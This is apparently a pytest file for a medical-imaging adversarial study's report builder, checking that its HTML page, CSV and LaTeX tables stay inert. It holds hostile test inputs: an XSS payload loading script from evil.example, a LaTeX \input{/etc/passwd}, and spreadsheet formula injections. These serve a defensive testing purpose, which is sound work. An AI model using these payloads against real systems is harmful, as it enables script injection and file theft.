"""The report: one page that stands alone, inert whatever the study's names are, and figures that show the numbers."""

from __future__ import annotations

import base64
import csv
import hashlib
import itertools
import re
import shutil
import subprocess
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path

import matplotlib as mpl
import numpy as np
import pytest
import yaml
from matplotlib.figure import Figure
from matplotlib.image import imread

from medadv.atomic import write_text
from medadv.errors import RunError
from medadv.study.report import build
from medadv.study.report.curves import band, budget_curves
from medadv.study.report.montage import montage, planes
from medadv.study.report.paired import attack_families, paired_lines
from medadv.study.report.provenance import without_folders
from medadv.study.report.tables import Column, Table, escape
from medadv.study.report.worst import worst_kept
from medadv.study.results import Results, read_results
from medadv.study.slices import read_slices

HOSTILE = '"><img src=x onerror=alert(1)><script src="https://evil.example/x.js"></script>\\input{/etc/passwd}'
CASES = ("=1+1", "@SUM(A1)", "<b>bold<i>", "\\input{x}", "a&b;$x^2_3%", "normal-1")


@pytest.fixture(scope="module")
def page(run_folder: Path) -> Path:
    return build(run_folder)


@pytest.fixture(scope="module")
def results(run_folder: Path) -> Results:
    return read_results(run_folder)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, write_run: Callable[..., Path]) -> Path:
    """The report of a study whose names, ids and messages try to become code."""
    refused = (
        {"case": "=cmd", "reason": "unreadable", "message": HOSTILE},
        {"case": "-1", "reason": "x", "message": "+2"},
    )
    folder = tmp_path_factory.mktemp("hostile") / "study"
    write_run(folder, victims=('v<b>"&', "=1+1"), cases=CASES, budgets=(0.1,), quarantine=refused)
    content = yaml.safe_load((folder / "study.yaml").read_text())
    write_text(folder / "study.yaml", yaml.safe_dump({**content, "study": HOSTILE, "question": HOSTILE}))
    return build(folder)


class Tags(HTMLParser):
    """All tags of a page with their attributes, and its text outside of style sheets."""

    def __init__(self, page: Path) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.feed(page.read_text(encoding="utf-8"))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        if self.found and self.found[-1][0] != "style":
            self.text.append(data)


def pages(page: Path, hostile: Path) -> Iterator[Tags]:
    yield Tags(page)
    yield Tags(hostile)


def test_the_page_needs_nothing_but_itself(page: Path, hostile: Path) -> None:
    for tags in pages(page, hostile):
        assert {tag for tag, _ in tags.found} & {
            "script",
            "link",
            "iframe",
            "object",
            "embed",
            "base",
            "form",
            "a",
        } == set()
        assert [a for _, a in tags.found if any(name.startswith("on") or name == "style" for name in a)] == []
        addresses = [a[name] for _, a in tags.found for name in ("src", "href", "srcset", "action") if name in a]
        assert addresses
        assert all(address.startswith("data:image/") for address in addresses)
        for address in addresses:
            kind, _, content = address.partition(";base64,")
            drawing = base64.b64decode(content, validate=True)
            if kind == "data:image/svg+xml":
                inside = re.findall(rb'(?:href|src)="([^"]*)"|url\(([^)]*)\)', drawing)
                assert all((a or b).startswith(b"#") for a, b in inside)
                assert b"<script" not in drawing
    assert not re.search(r"url\(|@import", page.read_text(encoding="utf-8"))


def test_the_policy_allows_this_style_sheet_and_nothing_else(page: Path) -> None:
    (policy,) = (a["content"] for _, a in Tags(page).found if a.get("http-equiv") == "Content-Security-Policy")
    (sheet,) = re.findall(r"<style>(.*?)</style>", page.read_text(encoding="utf-8"), re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(sheet.encode()).digest()).decode()
    assert "default-src 'none'" in policy
    assert f"style-src 'sha256-{digest}'" in policy
    assert "unsafe" not in policy


def test_hostile_names_are_text(hostile: Path) -> None:
    text = "".join(Tags(hostile).text)
    assert text.count(HOSTILE) >= 3  # heading, question, message
    assert "<b>bold<i>" in text or "v<b>" in text
    assert {path.parent.name for path in hostile.parent.rglob("*") if path.is_file()} == {"report", "figures", "tables"}


def test_hostile_names_are_no_formulas(hostile: Path) -> None:
    seen = 0
    for path in (hostile.parent / "tables").glob("*.csv"):
        for cell in itertools.chain.from_iterable(csv.reader(path.read_text(encoding="utf-8").splitlines())):
            if cell.startswith(("=", "+", "-", "@")):
                float(cell)
            seen += cell.startswith("'")
    assert seen >= 3


def test_hostile_names_are_no_latex(hostile: Path) -> None:
    text = (hostile.parent / "tables" / "quarantine.tex").read_text(encoding="utf-8")
    assert r"\textbackslash{}input\{/etc/passwd\}" in text
    assert "\\input" not in text
    commands = {
        c for path in (hostile.parent / "tables").glob("*.tex") for c in re.findall(r"\\([a-z]+)", path.read_text())
    }
    known = {"begin", "end", "centering", "caption", "toprule", "midrule", "bottomrule", "addlinespace"}
    known |= {"sigma", "dots", "times", "varepsilon"}
    assert commands <= {*known, *re.findall(r"text[a-z]+", " ".join(commands))}


def test_every_character_that_latex_acts_on_is_escaped() -> None:
    assert escape("a\nb\x00c") == "a b c"
    for character in "\\{}$&#%_~^":
        assert escape(character) != character
        assert escape(character).startswith("\\")


def test_a_table_keeps_all_digits_in_csv_and_few_on_the_page() -> None:
    table = Table("t", "caption", (Column("a"), Column("b", lambda v: f"{v:.1f}")), [["x_1", 1 / 3]])
    assert table.csv() == f"a,b\nx_1,{1 / 3!r}\n"
    assert table.spelled() == [["x_1", "0.3"]]
    assert r"x\_1 & 0.3 \\" in table.latex()


def test_the_page_is_complete(page: Path) -> None:
    tags = Tags(page)
    wanted = ["answer", "scores", "curves", "paired", "images", "training", "threat", "delivery", "comparisons"]
    assert [a["id"] for tag, a in tags.found if tag == "section"] == [*wanted, "quarantine", "provenance"]
    text = " ".join("".join(tags.text).split())
    assert "n counts cases, not patients" in text
    assert "medadv run study.yaml" in text
    assert not re.search(r"robust|secure|\bsafe", text, re.IGNORECASE)
    assert "jdoe" not in text
    assert "…/brats" in text
    images = [a for tag, a in tags.found if tag == "img"]
    assert len(images) == 3 + 3 + 3 + 1
    assert all(a["alt"] for a in images)


def test_figures_are_files_and_none_is_blank(page: Path) -> None:
    figures = sorted((page.parent / "figures").glob("*.png"))
    assert len(figures) == 10
    for path in figures:
        pixels = imread(path)
        assert pixels[..., :3].std() > 0.05
        assert min(pixels.shape[:2]) > 600
        assert path.with_suffix(".pdf").read_bytes().startswith(b"%PDF")


def test_the_same_results_make_the_same_bytes(tmp_path: Path, write_run: Callable[..., Path]) -> None:
    folder = write_run(tmp_path / "study", budgets=(0.1,), cases=tuple(f"c{i}" for i in range(6)))
    kept = dict(mpl.rcParams)
    first = {path: path.read_bytes() for path in build(folder).parent.rglob("*") if path.is_file()}
    shutil.rmtree(folder / "report")
    build(folder)
    assert first == {path: path.read_bytes() for path in (folder / "report").rglob("*") if path.is_file()}
    assert dict(mpl.rcParams) == kept


def test_curves_start_at_clean_and_pass_through_the_means(results: Results) -> None:
    axes = budget_curves(results, "unet", "TC", "sigma").axes[0]
    lines = {line.get_label(): line for line in axes.lines}
    arms = [results.clean("unet"), *(results.arm("unet", f"ifgsm-{b}-sigma") for b in (0.05, 0.1, 0.2))]
    drawn = lines["i-FGSM, 10 steps"].get_xydata()
    assert np.allclose(drawn, [(arm.presented.amount or 0, arm.mean("TC")) for arm in arms if arm], atol=1e-12)
    assert sum(line.get_linestyle() == "-" for line in axes.lines) == 3


def test_the_band_holds_the_mean_and_shrinks_with_n() -> None:
    values = np.random.default_rng(1).normal(0.5, 0.1, 400)
    low, high = band(values)
    assert low < values.mean() < high
    assert high - low == pytest.approx(2 * 1.96 * values.std() / 20, rel=0.1)
    assert band(np.full(5, 0.25)) == (0.25, 0.25)


def test_every_case_is_a_line_of_the_paired_plot(results: Results) -> None:
    arms = attack_families(results, "unet", "WT")["ifgsm"]
    axes = paired_lines(results, "unet", "WT", arms).axes[0]
    ends = sorted(line.get_ydata()[-1] for line in axes.lines[:-1])
    assert ends == sorted(arms[-1].values("WT").values())
    assert axes.lines[-1].get_ydata()[-1] == arms[-1].mean("WT")


@pytest.mark.parametrize(
    "directions",
    [tuple(turned) for order in itertools.permutations(("LR", "AP", "SI")) for turned in itertools.product(*order)],
    ids="".join,
)
def test_planes_lie_as_the_letters_say(directions: tuple[str, str, str]) -> None:
    """A voxel at the patient's left, front and top is found there, whatever way the file was stored."""
    volume = np.zeros((4, 5, 6))
    marked = tuple(n - 1 if d in "LAS" else 0 for d, n in zip(directions, volume.shape, strict=True))
    volume[marked] = 1
    laid = planes(directions)
    assert [plane.title for _, plane in laid] == ["axial", "coronal", "sagittal"]
    for across, plane in laid:
        shown = plane.lay(np.take(volume, marked[across], across))
        assert shown.shape == (volume.shape[plane.axes[1]], volume.shape[plane.axes[0]])
        (row,), (column,) = np.nonzero(shown)
        left, right, below, above = plane.letters
        assert (above, row) in {("A", shown.shape[0] - 1), ("S", shown.shape[0] - 1)}
        assert {left: 0, right: shown.shape[1] - 1}["A" if plane.title == "sagittal" else "L"] == column
        assert {left, right, below, above} <= set("LRAPSI")


def test_the_montage_shows_the_difference_in_sigma(results: Results) -> None:
    (_, _, path), *_ = (kept for kept in worst_kept(results, "unet", "WT") if kept[0].presented.family == "fgsm")
    slices = read_slices(path)
    figure = montage(slices, "ET", "title", ("", ""))
    assert isinstance(figure, Figure)
    shown = [axes for axes in figure.axes if axes.images]
    limits = [axes.images[0].get_clim() for axes in shown if axes.images[0].get_cmap().name == "RdBu_r"]
    assert (len(shown), len(limits)) == (9, 3)
    assert all(low == -high and high == pytest.approx(0.2, abs=1e-3) for low, high in limits)
    assert slices.members("ET") == ("ET", [4])
    assert slices.members("TC") == ("TC", [1, 4])
    assert slices.members("unheard of") == ("all labelled tissue", [1, 2, 4])


def test_the_worst_case_is_the_largest_loss(results: Results) -> None:
    clean = results.clean("unet")
    assert clean is not None
    for arm, case, path in worst_kept(results, "unet", "WT"):
        family = [a for a in results.of("unet") if a.presented.family == arm.presented.family]
        kept = [
            clean.values("WT")[c] - a.values("WT")[c]
            for a in family
            for c in a.records
            if (results.folder / "volumes" / "unet" / a.condition / c).is_dir()
        ]
        assert clean.values("WT")[case] - arm.values("WT")[case] == max(kept)
        assert path.is_file()


@pytest.mark.parametrize("damage", [b"", b"PK\x03\x04 torn", None])
def test_damaged_slices_are_an_error_with_advice(tmp_path: Path, run_folder: Path, damage: bytes | None) -> None:
    path = tmp_path / "case" / "slices.npz"
    path.parent.mkdir()
    if damage is None:
        np.savez(path, clean_0=np.zeros((1, 2, 2)))
    else:
        path.write_bytes(damage)
    with pytest.raises(RunError, match="slices of case are damaged"):
        read_slices(path)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("/home/jdoe/data/brats", "…/brats"),
        ("C:\\Users\\jdoe\\brats", "…/brats"),
        ("~/brats", "…/brats"),
        ("0.1 sigma", "0.1 sigma"),
        ({"root": ["/a/b", 3, None]}, {"root": ["…/b", 3, None]}),
    ],
)
def test_folders_are_left_out_of_paths(value: object, shown: object) -> None:
    assert without_folders(value) == shown


def chromium(page: Path, profile: Path) -> tuple[str, list[str]]:
    """The page as headless Chromium sees it, and what it wrote to the console."""
    found = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if found is None:
        pytest.skip("no Chromium on this machine: the page was not opened in a browser")
    command = [
        found,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        f"--user-data-dir={profile}",
    ]
    command += ["--enable-logging=stderr", "--virtual-time-budget=2000", "--dump-dom", page.as_uri()]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=True)
    return done.stdout, [line for line in done.stderr.splitlines() if "CONSOLE" in line]


def test_a_browser_opens_the_page_without_a_complaint(page: Path, hostile: Path, tmp_path: Path) -> None:
    for path in (page, hostile):
        content, complaints = chromium(path, tmp_path / "profile")
        assert complaints == []
        assert content.count("<section") == 11
    broken = tmp_path / "broken.html"
    broken.write_text(page.read_text(encoding="utf-8").replace("</main>", "<script>alert(1)</script></main>"))
    assert chromium(broken, tmp_path / "profile")[1] != []  # what the policy forbids is seen
